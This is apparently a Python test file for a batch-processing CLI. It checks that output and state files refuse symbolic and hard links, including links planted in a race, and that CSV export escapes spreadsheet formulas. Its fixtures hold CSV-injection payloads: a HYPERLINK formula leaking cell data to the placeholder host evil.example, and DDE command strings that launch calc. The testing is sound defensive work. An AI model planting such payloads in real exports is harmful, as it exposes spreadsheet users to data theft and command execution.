"""Files handled like trusted software: no link is followed for an output, and CSV cells are not formulas.

Through the real CLI against the simulator: every refusal is exit 2 before anything is sent or
written, and leaves the link's target as it was (or not created at all).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from collections.abc import Iterator
from pathlib import Path

import orjson
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from asyncbatch.cli.main import main
from asyncbatch.config import Outputs
from asyncbatch.errors import ConfigError
from asyncbatch.export import _cell
from asyncbatch.records import result_record
from asyncbatch.simulator import SimConfig, Simulator
from asyncbatch.store.files import check_paths, create_private, prepare_state
from asyncbatch.store.lock import OutputLock
from tests.helpers import batch_line, simulator_env, write_jsonl

FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def sim(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[dict[str, str], Simulator]]:
    with simulator_env(SimConfig(), monkeypatch) as served:
        yield served


def _run(cwd: Path, *args: str) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.chdir(cwd), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, err.getvalue()


def _tree(root: Path) -> dict[str, bytes | str]:
    """Every name under ``root`` with its bytes (a link: where it points), to compare before and after."""
    tree: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        tree[name] = f"-> {os.readlink(path)}" if path.is_symlink() else path.read_bytes() if path.is_file() else "dir"
    return tree


# -- no link is followed for an output ----------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "target"),
    [
        ("-o", "dangling"),  # its target would be created elsewhere, holding results
        ("--errors", "empty"),  # an existing empty file elsewhere would be written through
        ("-o", "ours"),  # even a link to a results file of ours
        ("--errors", "dangling"),
        ("--checkpoint", "dangling"),
        ("--cache", "dangling"),
        ("--cache", "ours"),
    ],
)
def test_an_output_that_is_a_symbolic_link_is_refused_and_its_target_left_alone(
    tmp_path: Path, sim: tuple[dict[str, str], Simulator], option: str, target: str
) -> None:
    _, simulator = sim
    work, elsewhere = tmp_path / "work", tmp_path / "elsewhere"
    work.mkdir()
    elsewhere.mkdir()
    write_jsonl(work / "in.jsonl", [batch_line(f"r{i}", f"prompt {i}") for i in range(5)])
    victim = elsewhere / "victim"
    if target == "empty":
        victim.touch()
    if target == "ours" and option == "--cache":
        assert _run(work, "in.jsonl", "-q", "--cache", str(victim), "-o", str(elsewhere / "first.jsonl"))[0] == 0
    elif target == "ours":
        assert _run(work, "in.jsonl", "-q", "-o", str(victim))[0] == 0
    sent = simulator.requests
    (work / "link").symlink_to(victim)
    before, targets = _tree(work), _tree(elsewhere)
    code, err = _run(work, "in.jsonl", "-q", option, "link")
    assert code == 2 and "link is a symbolic link" in err and "Traceback" not in err
    assert simulator.requests == sent  # nothing sent
    assert _tree(work) == before and _tree(elsewhere) == targets  # nothing written here, the target as it was


def test_a_link_planted_between_the_check_and_the_open_is_not_followed(tmp_path: Path) -> None:
    outputs = Outputs(results=tmp_path / "out.jsonl", errors=tmp_path / "out.errors.jsonl")
    check_paths(outputs)  # nothing there yet: fine
    victim = tmp_path / "elsewhere"
    outputs.results.symlink_to(victim)  # the race: a link appears before the run opens its outputs
    with pytest.raises(ConfigError, match="symbolic link"):
        OutputLock(outputs.files, outputs.state.lock).acquire()
    assert not victim.exists()


def test_a_state_directory_link_planted_after_the_check_is_not_followed(tmp_path: Path) -> None:
    outputs = Outputs(results=tmp_path / "out.jsonl", errors=tmp_path / "out.errors.jsonl")
    check_paths(outputs)
    victim = tmp_path / "elsewhere"
    victim.mkdir()
    outputs.state.dir.symlink_to(victim)  # the race: the state directory becomes a link to another directory
    with pytest.raises(ConfigError, match="symbolic link"):
        OutputLock(outputs.files, outputs.state.lock).acquire()
    with pytest.raises(ConfigError, match="symbolic link"):
        prepare_state(outputs)
    assert list(victim.iterdir()) == []  # nothing created through it


# -- CSV cells a spreadsheet would run ----------------------------------------------------------

SCHEMA = {
    "type": "json_schema",
    "json_schema": {
        "name": "answer",
        "strict": True,
        "schema": {
            "type": "object",
            "properties": {  # the simulator answers an enum with its first value: the model's "answer"
                "link": {"type": "string", "enum": ['=HYPERLINK("http://evil.example/?"&A1,"click")']},
                "cmd": {"type": "string", "enum": ["+cmd|' /C calc'!A0"]},
                "minus": {"type": "string", "enum": ["-2+3+cmd|' /C calc'!A0"]},
                "at": {"type": "string", "enum": ["@SUM(1+1)*cmd|' /C calc'!A0"]},
                "tab": {"type": "string", "enum": ["\t=1+1"]},
                "score": {"type": "integer", "enum": [-5]},
            },
            "required": ["link", "cmd", "minus", "at", "tab", "score"],
            "additionalProperties": False,
        },
    },
}


def _formula_run(tmp_path: Path) -> None:
    records = [
        {"id": i, "text": text, "=name": "@field", "cr": "\r=2+2", "number": -7}
        for i, text in enumerate(["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "plain text"])
    ]
    write_jsonl(tmp_path / "in.jsonl", records)
    (tmp_path / "schema.json").write_text(json.dumps(SCHEMA))
    code, err = _run(tmp_path, "in.jsonl", "-q", "--template", "{text}", "--response-format", "schema.json")
    assert code == 0, err


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_csv_export_puts_a_quote_before_every_cell_a_spreadsheet_would_run(
    tmp_path: Path, sim: tuple[dict[str, str], Simulator]
) -> None:
    _formula_run(tmp_path)
    assert _run(tmp_path, "export", "in.results.jsonl", "--input", "in.jsonl", "-o", "x.csv")[0] == 0
    table = _cells(tmp_path / "x.csv")
    header, rows = table[0], table[1:]
    assert len(rows) == 5
    text_cells = [cell for row in table for cell in row if not _number(cell)]
    assert not [cell for cell in text_cells if cell.startswith(FORMULAS)]  # none unescaped, header included
    assert "'=name" in header and "output.link" in header
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["text"] for r in by_column] == ["'=1+1", "'+1+1", "'-1+1", "'@SUM(A1:A2)", "plain text"]
    first = by_column[0]
    assert first["output.link"] == "'" + SCHEMA["json_schema"]["schema"]["properties"]["link"]["enum"][0]  # type: ignore[index]
    assert (first["output.cmd"], first["output.at"], first["output.tab"]) == (
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\t=1+1",
    )
    assert (first["cr"], first["'=name"]) == ("'\r=2+2", "'@field")
    assert (first["output.score"], first["number"]) == ("-5", "-7")  # numbers stay numbers: they run nothing


def test_keep_formulas_writes_the_raw_text_and_parquet_keeps_values_as_they_are(
    tmp_path: Path, sim: tuple[dict[str, str], Simulator]
) -> None:
    _formula_run(tmp_path)
    assert (
        _run(tmp_path, "export", "in.results.jsonl", "--input", "in.jsonl", "-o", "raw.csv", "--keep-formulas")[0] == 0
    )
    table = _cells(tmp_path / "raw.csv")
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [r["text"] for r in rows] == ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "plain text"]
    assert rows[0]["output.cmd"] == "+cmd|' /C calc'!A0" and rows[0]["=name"] == "@field"
    assert _run(tmp_path, "export", "in.results.jsonl", "--input", "in.jsonl", "-o", "t.parquet")[0] == 0
    frame = pd.read_parquet(tmp_path / "t.parquet")
    assert list(frame["text"]) == ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "plain text"]
    assert frame.loc[0, "output.minus"] == "-2+3+cmd|' /C calc'!A0" and frame.loc[0, "=name"] == "@field"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_library_export_escapes_by_default(tmp_path: Path) -> None:
    from asyncbatch.export import Rows, export

    write_jsonl(tmp_path / "r.jsonl", [{"line": 1, "custom_id": "=a", "output": "-b", "response": {"body": {}}}])
    out = io.BytesIO()
    export(Rows(tmp_path / "r.jsonl", None, None, ordered=False), "csv", None, out)
    assert out.getvalue().decode().splitlines()[1].startswith("1,succeeded,'=a,'-b")
    out = io.BytesIO()
    export(Rows(tmp_path / "r.jsonl", None, None, ordered=False), "csv", None, out, keep_formulas=True)
    assert out.getvalue().decode().splitlines()[1].startswith("1,succeeded,=a,-b")


SKIPPED = [" ", "\t", "\n", "\r", "\u3000", "\u00a0", "\u2003", "\ufeff", "\u200b", "\u2028"]
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    cells=st.lists(
        st.tuples(st.lists(st.sampled_from(SKIPPED), max_size=3), st.sampled_from(STARTS), st.text(max_size=10)),
        min_size=1,
        max_size=4,
    )
)
@example(
    cells=[([], "=", "1+1"), (["\u3000"], "=", "1"), (["\ufeff"], "@", "x"), ([], "\uff1d", "1"), (["\n"], "+", "")]
)
def test_csv_export_escapes_a_formula_behind_what_a_spreadsheet_skips_and_in_fullwidth(
    tmp_path: Path, cells: list[tuple[list[str], str, str]]
) -> None:
    texts = ["".join(skip) + start + rest for skip, start, rest in cells]
    line = result_record(
        custom_id="c",
        line_no=1,
        request_id="r",
        raw_body=b"{}",
        output={f"f{i}": t for i, t in enumerate(texts)},
        attempts=1,
        latency_ms=0.0,
        deployment="d",
        line_hash="h",
    )
    (tmp_path / "r.jsonl").write_bytes(orjson.dumps(line) + b"\n")
    assert _run(tmp_path, "export", "r.jsonl", "-o", "x.csv")[0] == 0
    row = dict(zip(*_cells(tmp_path / "x.csv"), strict=True))
    assert [row[f"output.f{i}"] for i in range(len(texts))] == ["'" + t for t in texts]
    for plain in ("a=1", "1-2", "x @y"):  # a formula character later in the text runs nothing
        assert _cell(plain) == plain


@pytest.mark.parametrize("name", ["in.results.jsonl", "in.results.errors.jsonl", "in.results.jsonl.state/checkpoint"])
def test_an_output_or_state_file_with_another_name_a_hard_link_is_refused_and_left_alone(
    tmp_path: Path, sim: tuple[dict[str, str], Simulator], name: str
) -> None:
    write_jsonl(tmp_path / "in.jsonl", [batch_line("a", "p")])
    assert _run(tmp_path, "in.jsonl", "-q")[0] == 0
    kept = tmp_path / "elsewhere"
    os.link(tmp_path / name, kept)  # the same file, by another name: a run would change it too
    before = kept.read_bytes()
    write_jsonl(tmp_path / "in.jsonl", [batch_line("a", "p"), batch_line("b", "q")])
    code, err = _run(tmp_path, "in.jsonl", "-q")
    assert code == 2 and "is one of 2 names of the same file (a hard link)" in err and "HINT: give a file of one" in err
    assert kept.read_bytes() == before and os.stat(kept).st_nlink == 2


def test_a_hard_link_planted_after_the_check_is_not_written_through(tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.write_bytes(b"theirs")
    os.link(target, tmp_path / "state")
    with pytest.raises(ConfigError, match="hard link"):
        create_private(tmp_path / "state")
    assert target.read_bytes() == b"theirs"  # not emptied: the check comes before the truncation


def test_export_refuses_an_output_that_is_a_symbolic_link_and_writes_0600(tmp_path: Path) -> None:
    line = result_record(
        custom_id="c", line_no=1, request_id="r", raw_body=b"{}", output="private answer",
        attempts=1, latency_ms=0.0, deployment="d", line_hash="h",
    )  # fmt: skip
    (tmp_path / "r.jsonl").write_bytes(orjson.dumps(line) + b"\n")
    target = tmp_path / "theirs.csv"
    target.write_text("theirs")
    (tmp_path / "out.csv").symlink_to(target)
    code, err = _run(tmp_path, "export", "r.jsonl", "-o", "out.csv")
    assert code == 2 and "-o out.csv is a symbolic link" in err and "HINT: give the target's own path" in err
    assert target.read_text() == "theirs" and (tmp_path / "out.csv").is_symlink()
    (tmp_path / "r.results.jsonl").symlink_to(tmp_path / "r.jsonl")  # a link to what it reads: the link is named
    assert "is a symbolic link" in _run(tmp_path, "export", "r.jsonl", "-o", "r.results.jsonl")[1]
    umask = os.umask(0o022)  # a usual umask: 0644 for a file made 0666, which an export was
    try:
        assert _run(tmp_path, "export", "r.jsonl", "-o", "mine.csv")[0] == 0
    finally:
        os.umask(umask)
    assert (tmp_path / "mine.csv").stat().st_mode & 0o777 == 0o600 and "private answer" in (
        tmp_path / "mine.csv"
    ).read_text()
